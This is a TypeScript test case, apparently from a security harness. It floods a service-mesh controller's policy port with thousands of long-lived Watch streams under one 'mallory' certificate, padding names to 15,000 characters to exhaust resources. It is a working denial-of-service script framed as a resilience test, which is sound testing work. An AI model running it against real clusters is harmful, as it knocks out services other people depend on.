import { setTimeout as pause } from "node:timers/promises";
import { call, pathOf, requestOf, session } from "../calls.ts";
import { stay } from "../sockets.ts";
import type { ServerAttack } from "../shape.ts";

export const policyStreams: ServerAttack = {
  name: "policy-streams",
  claim: "The same on the policy port: long workloads, and many.",
  victim: "controller",
  good: ["certificates", "streams"],
  seconds: 6,
  attack: async (target, over) => {
    let opened = 0;
    let connections = 0;
    while (connections < 20 && !over.aborted) {
      const on = await session(target, { to: "policy", certificate: target.certificates?.mallory });
      connections += 1;
      if (on === undefined) continue;
      for (let index = 0; index < 1000 && !on.destroyed && !over.aborted; index += 1) {
        const isLong = index % 2 === 0;
        const workload = JSON.stringify({ ns: "evil", pod: `x${opened}${isLong ? "a".repeat(15_000) : ""}` });
        const inbound = requestOf("inbound", "WatchPort", { workload, port: (index % 65_535) + 1 });
        const authority = `${isLong ? "a".repeat(15_000) : `s${opened}`}.evil.svc.cluster.local:80`;
        const outbound = requestOf("outbound", "Watch", { source_workload: workload.slice(0, 1000), authority });
        if (index % 3 === 0) call(on, pathOf("outbound", "Watch"), outbound);
        else call(on, pathOf("inbound", "WatchPort"), inbound);
        opened += 1;
        if (index % 100 === 99) await pause(5);
      }
    }
    await stay(over);
    return { says: `${opened} streams of one identity on ${connections} connections`, happened: opened > 1000 };
  },
};
